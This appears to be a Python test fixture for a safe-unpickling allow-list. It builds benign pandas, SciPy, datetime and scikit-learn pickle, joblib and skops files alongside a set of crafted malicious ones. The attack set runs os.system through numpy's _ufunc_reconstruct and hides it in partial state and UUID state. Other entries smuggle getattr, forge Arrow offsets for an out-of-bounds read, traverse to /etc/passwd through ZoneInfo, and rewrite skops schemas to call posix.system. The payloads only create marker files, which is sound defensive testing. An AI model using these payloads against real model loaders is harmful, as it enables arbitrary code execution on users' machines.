"""Benign files of the kinds issue 19 lists (DataFrames, sparse matrices, metadata values,
partials, ufuncs, acronym estimators) and an attack on every allow-list entry they needed.

Attacks marked ``live="pickle"`` create their marker under plain ``pickle.loads``.
"""

from __future__ import annotations

import datetime
import decimal
import functools
import io
import json
import pickle
import struct
import uuid
import zipfile
import zoneinfo
from collections.abc import Callable
from pathlib import Path
from typing import Any

from payloads import Built, Evil, call, glob, pk, text, touch, tup

__all__ = ["VALUE_BENIGN", "VALUE_MALICIOUS"]


def _write(out: Path, filename: str, data: bytes, live: str | None = None) -> Built:
    path = out / filename
    path.write_bytes(data)
    return Built(path, live)


def _joblib(value: Any) -> bytes:
    import joblib

    buffer = io.BytesIO()
    joblib.dump(value, buffer)
    return buffer.getvalue()


def _skops(value: Any) -> bytes:
    import skops.io as sio

    return sio.dumps(value)


def _frame() -> Any:
    import numpy as np
    import pandas as pd

    return pd.DataFrame({
        "age": [34, 51, 27], "income": [52000.5, 71000.0, 38000.25],
        "city": ["Oslo", "Lima", "Rome"], "segment": pd.Categorical(["a", "b", "a"]),
        "joined": pd.date_range("2024-01-01", periods=3, tz="Europe/Berlin"),
        "seen": pd.date_range("2024-02-01", periods=3, tz="UTC"),
        "score": pd.array([1, None, 3], dtype="Int64"), "flag": [True, False, True],
        "wait": pd.to_timedelta([1, 2, 3], unit="h"), "raw": np.array([b"x", b"y", b"z"]),
    }, index=pd.Index(["u1", "u2", "u3"], name="user"))


def _metadata() -> dict[str, Any]:
    return {"created": datetime.datetime(2024, 5, 1, 12, tzinfo=datetime.UTC),
            "local": datetime.datetime(2024, 5, 1, 14, tzinfo=zoneinfo.ZoneInfo("Europe/Oslo")),
            "offset": datetime.datetime(2024, 5, 1, tzinfo=datetime.timezone(
                datetime.timedelta(hours=-3))),
            "day": datetime.date(2024, 5, 1), "at": datetime.time(9, 30),
            "ttl": datetime.timedelta(days=30), "run_id": uuid.UUID(int=0x1234_5678_9ABC),
            "dataset": uuid.uuid5(uuid.NAMESPACE_URL, "https://example.org/data"),
            "threshold": decimal.Decimal("0.8500"), "cost": decimal.Decimal("12.50")}


def _sparse() -> dict[str, Any]:
    import numpy as np
    import scipy.sparse as sp

    dense = np.array([[0, 1.5, 0], [2.0, 0, 0], [0, 0, 3.0]])
    return {"csr": sp.csr_matrix(dense), "csc": sp.csc_matrix(dense), "coo": sp.coo_matrix(dense),
            "csr_array": sp.csr_array(dense), "dok": sp.dok_matrix(dense),
            "lil": sp.lil_array(dense)}


def _fitted(make: Callable[[], Any]) -> Any:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return make()


def _x() -> Any:
    import numpy as np

    return np.random.RandomState(0).uniform(0.1, 1.0, (30, 3))


def _function_transformer(func: Any) -> Any:
    from sklearn.preprocessing import FunctionTransformer

    return _fitted(lambda: FunctionTransformer(func).fit(_x()))


def _tfidf() -> Any:
    from sklearn.feature_extraction.text import TfidfVectorizer

    return _fitted(lambda: TfidfVectorizer(ngram_range=(1, 2)).fit(
        ["spam offer now", "meeting at noon", "cheap offer", "lunch today"] * 3))


def _estimator(name: str) -> Callable[[], Any]:
    def make() -> Any:
        import numpy as np
        from sklearn.decomposition import PCA
        from sklearn.ensemble import HistGradientBoostingClassifier
        from sklearn.neighbors import KNeighborsClassifier
        from sklearn.preprocessing import SplineTransformer
        from sklearn.svm import SVC

        x, y = _x(), np.arange(30) % 2
        models = {
            "pca": lambda: PCA(2).fit(x),
            "svc": lambda: SVC(probability=True, random_state=0).fit(x, y),
            "knn-kdtree": lambda: KNeighborsClassifier(3, algorithm="kd_tree").fit(x, y),
            "hgb-categorical": lambda: HistGradientBoostingClassifier(
                categorical_features=[0], max_iter=5).fit(np.column_stack([np.arange(30) % 3,
                                                                           x[:, 1:]]), y),
            "spline": lambda: SplineTransformer(n_knots=4).fit(x),
        }
        return _fitted(models[name])

    return make


def _ufunc_numpy1(out: Path) -> Built:
    # numpy 1.x wrote ufuncs as numpy.core._ufunc_reconstruct('numpy', name).
    value = call(glob("numpy.core", "_ufunc_reconstruct"), text("numpy"), text("log1p"))
    return _write(out, "ufunc-numpy1.pkl", pk(b"}" + b"(" + text("func") + value + b"u", 2))


VALUE_BENIGN: dict[str, Callable[[Path], Built]] = {
    **{f"pandas-frame-p{p}": (lambda p: lambda out: _write(
        out, f"frame-p{p}.pkl", pickle.dumps(_frame(), p)))(p) for p in (2, 4, 5)},
    "pandas-frame-joblib": lambda out: _write(out, "frame.joblib", _joblib(_frame())),
    "pandas-bundle-with-model": lambda out: _write(out, "bundle.pkl", pickle.dumps({
        "model": _estimator("pca")(), "reference": _frame(), "meta": _metadata()}, 5)),
    **{f"metadata-values-p{p}": (lambda p: lambda out: _write(
        out, f"metadata-p{p}.pkl", pickle.dumps(_metadata(), p)))(p) for p in range(6)},
    "scipy-sparse-matrices": lambda out: _write(out, "sparse.pkl", pickle.dumps(_sparse(), 5)),
    "scipy-sparse-joblib": lambda out: _write(out, "sparse.joblib", _joblib(_sparse())),
    "tfidf-vectorizer-pickle": lambda out: _write(out, "tfidf.pkl", pickle.dumps(_tfidf(), 5)),
    "tfidf-vectorizer-joblib": lambda out: _write(out, "tfidf.joblib", _joblib(_tfidf())),
    "partial-transformer-pickle": lambda out: _write(out, "partial.pkl", pickle.dumps(
        _function_transformer(functools.partial(__import__("numpy").round, decimals=2)), 5)),
    "partial-transformer-skops": lambda out: _write(out, "partial.skops", _skops(
        _function_transformer(functools.partial(__import__("numpy").round, decimals=2)))),
    "ufunc-transformer-pickle": lambda out: _write(out, "ufunc.pkl", pickle.dumps(
        _function_transformer(__import__("numpy").log1p), 5)),
    "ufunc-transformer-skops": lambda out: _write(out, "ufunc.skops", _skops(
        _function_transformer(__import__("numpy").tanh))),
    "ufunc-numpy1-reconstruct": _ufunc_numpy1,
    **{f"sklearn-{name}": (lambda name: lambda out: _write(
        out, f"{name}.pkl", pickle.dumps(_estimator(name)(), 5)))(name)
       for name in ("pca", "svc", "knn-kdtree", "hgb-categorical", "spline")},
    "sklearn-svc-skops": lambda out: _write(out, "svc.skops", _skops(_estimator("svc")())),
}


# -- Attacks ---------------------------------------------------------------------------------

def _m(out: Path, name: str) -> str:
    return str(out / f"MARKER-{name}")


def _ufunc_os_system(out: Path) -> Built:
    system = call(glob("numpy.core", "_ufunc_reconstruct"), text("os"), text("system"))
    payload = pk(system + tup(text(touch(_m(out, "pickle-ufunc-reconstruct-os-system")))) + b"R",
                 2)
    return _write(out, "ufunc-os.pkl", payload, "pickle")


def _getattr_to_pickle(out: Path) -> Built:
    writer = call(glob("builtins", "getattr"), glob("pandas", "DataFrame"), text("to_pickle"))
    frame = call(glob("pandas", "DataFrame"))
    payload = pk(writer + tup(frame, text(_m(out, "pickle-getattr-frame-to-pickle"))) + b"R")
    return _write(out, "getattr-frame.pkl", payload, "pickle")


def _partial_swap(out: Path) -> Built:
    # partial(numpy.mean) whose restored state swaps in os.system (via _ufunc_reconstruct).
    system = call(glob("numpy.core", "_ufunc_reconstruct"), text("os"), text("system"))
    state = tup(system, tup(text(touch(_m(out, "pickle-partial-state-swap")))), b"}", b"N")
    partial = call(glob("functools", "partial"), glob("numpy", "mean")) + state + b"b"
    return _write(out, "partial-swap.pkl", pk(partial + b")R", 2), "pickle")


def _frame_evil_column(out: Path) -> Built:
    import pandas as pd

    frame = pd.DataFrame({"a": [1, 2], "b": pd.Series(
        ["x", Evil(_m(out, "pickle-frame-evil-column"))], dtype=object)})
    return _write(out, "frame-evil.pkl", pickle.dumps(frame, 5), "pickle")


def _arrow_forged(out: Path) -> Built:
    # A pandas 3 string column whose offsets run 100,000 bytes past a 3-byte data buffer.
    import pyarrow as pa

    data = pickle.dumps(__import__("pandas").array(["x", "yy"], dtype="str"), 5)
    good = struct.pack("<3q", 0, 1, 3)
    assert good in data
    data = data.replace(good, struct.pack("<3q", 0, 1, 100_000))
    del pa
    return _write(out, "arrow-forged.pkl", data)


def _new_index_computed(out: Path) -> Built:
    cls = call(glob("builtins", "getattr"), glob("pandas", "Index"), text("__class__"))
    payload = pk(call(glob("pandas.core.indexes.base", "_new_Index"), cls, b"}"))
    return _write(out, "new-index.pkl", payload)


def _skops_edit(name: str, func_node: dict[str, Any]) -> Callable[[Path], Built]:
    def build(out: Path) -> Built:
        data = _skops(_function_transformer(functools.partial(
            __import__("numpy").round, decimals=2)))
        archive = zipfile.ZipFile(io.BytesIO(data))
        schema = json.loads(archive.read("schema.json"))
        schema["content"]["content"]["func"]["content"]["func"] = func_node
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as new:
            for info in archive.infolist():
                new.writestr(info.filename, json.dumps(schema).encode()
                             if info.filename == "schema.json" else archive.read(info))
        return _write(out, f"{name}.skops", buffer.getvalue())

    return build


VALUE_MALICIOUS: dict[str, Callable[[Path], Built]] = {
    "pickle-ufunc-reconstruct-os-system": _ufunc_os_system,
    "pickle-getattr-frame-to-pickle": _getattr_to_pickle,
    "pickle-getattr-stored-as-value": lambda out: _write(out, "getattr-value.pkl", pk(
        b"}(" + text("func") + glob("builtins", "getattr") + b"u")),
    "pickle-zoneinfo-key-traversal": lambda out: _write(out, "zone.pkl", pk(call(call(
        glob("builtins", "getattr"), glob("zoneinfo", "ZoneInfo"), text("_unpickle")),
        text("../../../../etc/passwd"), b"\x88"))),
    "skops-partial-os-system": _skops_edit("partial-os", {
        "__class__": "system", "__module__": "posix", "__loader__": "FunctionNode"}),
    "pickle-partial-state-swap": _partial_swap,
    "pickle-partial-of-guarded": lambda out: _write(out, "partial-getattr.pkl", pk(call(
        glob("functools", "partial"), glob("builtins", "getattr")))),
    "pickle-frame-evil-column": _frame_evil_column,
    "pickle-arrow-forged-offsets": _arrow_forged,
    "pickle-new-index-computed-class": _new_index_computed,
    "pickle-newobj-computed-class": lambda out: _write(out, "newobj.pkl", pk(call(
        glob("sklearn.neighbors._kd_tree", "newObj"), call(glob("builtins", "getattr"), glob(
            "pandas", "Index"), text("__class__"))))),
    "pickle-uuid-evil-state": lambda out: _write(out, "uuid.pkl", pk(
        glob("uuid", "UUID") + b")\x81" + b"}(" + text("int") + call(glob("os", "system"), text(
            touch(_m(out, "pickle-uuid-evil-state")))) + b"ub"), "pickle"),
    "pickle-sklearn-export-graphviz": lambda out: _write(out, "graphviz.pkl", pk(call(
        glob("sklearn.tree._export", "export_graphviz"), call(glob(
            "sklearn.tree._classes", "DecisionTreeClassifier")), text(_m(
                out, "pickle-sklearn-export-graphviz"))))),
    "pickle-numpy-load-function": lambda out: _write(out, "numpy-load.pkl", pk(call(
        glob("numpy", "load"), text("/tmp/payload.npy"), b"\x88"))),
    "skops-partial-computed-target": _skops_edit("partial-object", {
        "__class__": "FunctionTransformer", "__module__":
            "sklearn.preprocessing._function_transformer", "__loader__": "ObjectNode",
        "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode",
                    "content": {}}}),
}
